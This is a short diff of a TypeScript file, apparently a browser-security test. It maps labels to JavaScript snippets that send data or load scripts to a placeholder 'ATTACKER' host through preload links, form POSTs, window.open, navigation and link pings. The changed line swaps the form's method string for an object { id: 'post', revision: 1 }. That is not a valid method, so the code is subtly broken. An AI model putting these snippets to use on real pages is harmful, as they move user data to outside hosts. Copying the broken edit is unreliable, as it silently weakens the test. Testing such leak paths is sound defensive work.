@@ -34,7 +34,7 @@ const EXPRESSIONS: Record<string, string> = {
 	'a preload':
 		"document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'script', href: 'ATTACKER/x.js' }))",
 	'a form':
-		"(() => { const f = Object.assign(document.createElement('form'), { action: 'ATTACKER', method: 'post' }); document.body.append(f); f.submit(); })()",
+		"(() => { const f = Object.assign(document.createElement('form'), { action: 'ATTACKER', method: { id: 'post', revision: 1 } }); document.body.append(f); f.submit(); })()",
 	'a new window': "String(window.open('ATTACKER'))",
 	'navigation of the page': "(() => { top.location.href = 'ATTACKER'; })()",
 	'a link with a ping':
